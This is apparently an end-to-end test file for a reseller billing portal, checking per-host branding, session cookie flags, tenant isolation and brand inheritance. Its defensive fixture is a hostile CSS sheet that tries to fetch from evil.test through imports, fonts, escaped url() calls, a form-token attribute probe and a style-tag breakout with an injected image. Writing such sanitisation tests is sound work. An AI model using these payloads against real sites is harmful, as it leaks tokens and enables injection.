// A brand by its host name, over TLS: its name and its colours from the sign-in page on, for the people of its branch and
// nobody else; the nearest brand above where somebody has none; and a style sheet that would fetch, which fetches nothing.
'use strict'

const assert = require('node:assert/strict')

const { journey } = require('../lib/journey')

const PASSWORD = 'Brand-password-1'
const EVIL = 'https://evil.test'

// One harmless rule, and every way to fetch that a style sheet has.
const sheet = (accent) => `
  @import "${EVIL}/import.css";
  @import url(//evil.test/import.css) layer(a);
  :root { --accent: ${accent}; --stolen: url(${EVIL}/variable) }
  @font-face { font-family: "Stolen"; src: url(${EVIL}/font.woff2) }
  body { font-family: Stolen, sans-serif; background-image: var(--stolen); background: url("${EVIL}/body") }
  h1 { background: image-set("${EVIL}/set.png" 1x); cursor: url(${EVIL}/cursor.cur), auto }
  main::before { content: url(${EVIL}/content.svg) }
  li { list-style-image: \\75rl(${EVIL}/list) }
  input[name="form_token"][value^="a"] { background: url(${EVIL}/token-a) }
  @media all { a { border-image: -webkit-cross-fade(url(${EVIL}/fade), url(x), 50%) 1 } }
  @supports (display: grid) { a { mask: url(${EVIL}/mask#m); filter: url(${EVIL}/filter#f) } }
  </style><img src="${EVIL}/image">`

journey(async ({ site, join, step, told }) => {
  const [meridian, harbor] = told.brands
  await step('customers with brands of their own', () => populate(site))
  await step('the brand of whose host it is', async () => {
    const stranger = await join({ base: meridian })
    await stranger.visit('/sign-in')
    await looksLike(stranger, 'Meridian', 'rgb(122, 31, 162)')
    await stranger.close()
    const other = await join({ base: harbor })
    await other.visit('/sign-in')
    await looksLike(other, 'Harbor', 'rgb(0, 105, 92)')
    await other.close()
  })
  await step('his people sign in there, and their cookie is bound to the host', async () => {
    const owner = await join({ base: meridian, as: { login: 'meridian', password: PASSWORD } })
    await looksLike(owner, 'Meridian', 'rgb(122, 31, 162)')
    const [cookie] = (await owner.page.context().cookies()).filter(({ name }) => name.endsWith('session'))
    const { name, secure, httpOnly, sameSite, path } = cookie
    assert.deepEqual(
      { name, secure, httpOnly, sameSite, path },
      { name: '__Host-session', secure: true, httpOnly: true, sameSite: 'Lax', path: '/' },
    )
    await owner.close()
  })
  await step('nobody else does', async () => {
    for (const [base, login] of [[meridian, 'beside'], [harbor, 'meridian'], [harbor, 'beside']]) {
      const person = await join({ base })
      await person.trySignIn({ login, password: PASSWORD })
      assert.ok(person.here.startsWith('/sign-in'), `${login} is let in at ${base}`)
      await person.close()
    }
  })
  await step('the nearest brand above', async () => {
    for (const base of [harbor, site.base]) {
      const person = await join({ base, as: { login: 'shop', password: PASSWORD } })
      await looksLike(person, 'Harbor', 'rgb(0, 105, 92)')
      await person.close()
    }
    const beside = await join({ as: { login: 'beside', password: PASSWORD } })
    assert.equal(await beside.page.locator('header .brand').innerText(), 'Tollgate')
  })
})

async function populate(site) {
  const root = site.voice()
  const reseller = { customers_mgmt: 7, api_access: 1, api_mgmt: 1, max_depth: 3 }
  const { i_customer: meridian } = await root.call('createCustomer', {
    name: 'Meridian', web_login: 'meridian', web_password: PASSWORD, i_tariff: site.told.i_tariff, ...reseller,
    dns_alias: 'meridian.test', css: sheet('#7a1fa2'),
  })
  const { i_tariff } = await root.call('createTariff', { i_customer: meridian, name: 'Resale', currency: 'USD' })
  const { i_customer: harbor } = await root.call('createCustomer', {
    i_wholesaler: meridian, name: 'Harbor', web_login: 'harbor', web_password: PASSWORD, i_tariff, ...reseller,
    max_depth: 2, dns_alias: 'harbor.test', css: sheet('#00695c'),
  })
  const { i_tariff: retail } = await root.call('createTariff', { i_customer: harbor, name: 'Retail', currency: 'USD' })
  await root.call('createCustomer', {
    i_wholesaler: harbor, name: 'Shop', web_login: 'shop', web_password: PASSWORD, i_tariff: retail,
  })
  await root.call('createCustomer', {
    name: 'Beside', web_login: 'beside', web_password: PASSWORD, i_tariff: site.told.i_tariff,
  })
}

// The name stands on the page and in its title, and the style sheet's harmless rule is at work.
async function looksLike(person, name, accent) {
  const { page } = person
  assert.equal(await page.locator('header .brand').innerText(), name)
  assert.ok((await page.title()).endsWith(`· ${name}`), await page.title())
  const painted = await page.evaluate(() => {
    const probe = document.createElement('span')
    document.body.append(probe)
    probe.className = 'button primary'
    return getComputedStyle(probe).backgroundColor
  })
  assert.equal(painted, accent)
}
